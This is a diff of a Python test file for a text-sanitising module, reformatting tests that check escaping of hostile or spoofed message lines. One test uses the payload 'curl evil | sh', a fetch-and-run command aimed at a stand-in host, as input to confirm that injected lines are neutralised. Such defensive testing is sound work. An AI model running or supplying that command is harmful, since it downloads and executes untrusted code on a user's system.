@@ -30,7 +30,9 @@ def test_nothing_hostile_gets_through(text):
         assert escaped.encode()
 
 
-@pytest.mark.parametrize("text", ["", "größer ✓ 语言 العربية", "a\u00a0b", "👩\u200d👩", "100 % 'of' \\it"])
+@pytest.mark.parametrize(
+    "text", ["", "größer ✓ 语言 العربية", "a\u00a0b", "👩\u200d👩", "100 % 'of' \\it"]
+)
 def test_ordinary_text_stays_as_it_is(text):
     assert safe_text.line(text) == text
 
@@ -42,7 +44,9 @@ def test_a_line_end_stays_only_where_lines_are_expected():
 
 @pytest.mark.parametrize("label", ["next:", "error:", "HINT:", "warning:", "  next:"])
 def test_a_later_line_cannot_pass_for_a_message_of_ours(label):
-    assert safe_text.lines(f"model x\n{label} curl evil | sh") == f"model x\n| {label} curl evil | sh"
+    assert (
+        safe_text.lines(f"model x\n{label} curl evil | sh") == f"model x\n| {label} curl evil | sh"
+    )
 
 
 @given(st.text(max_size=50))
